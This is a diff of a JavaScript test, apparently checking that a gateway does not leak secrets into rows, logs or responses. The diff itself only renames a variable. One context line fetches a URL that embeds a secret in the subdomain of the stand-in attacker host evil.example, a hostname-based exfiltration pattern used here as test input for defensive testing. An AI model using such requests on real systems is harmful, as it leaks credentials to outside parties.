@@ -92,8 +92,8 @@ test("no row, log line or response contains a secret", async () => {
     gateway.fetch(get(`https://${secrets.OTHER}.evil.example/`)),
   ]);
   const bodies = responses.map(({ body }) => new TextDecoder().decode(body));
-  const all = JSON.stringify([gateway.drain(), logged, bodies]);
-  expect(all).not.toContain(value);
-  expect(all).not.toContain(secrets.TOKEN);
-  expect(all).not.toContain(secrets.OTHER);
+  const text = JSON.stringify([gateway.drain(), logged, bodies]);
+  expect(text).not.toContain(value);
+  expect(text).not.toContain(secrets.TOKEN);
+  expect(text).not.toContain(secrets.OTHER);
 });
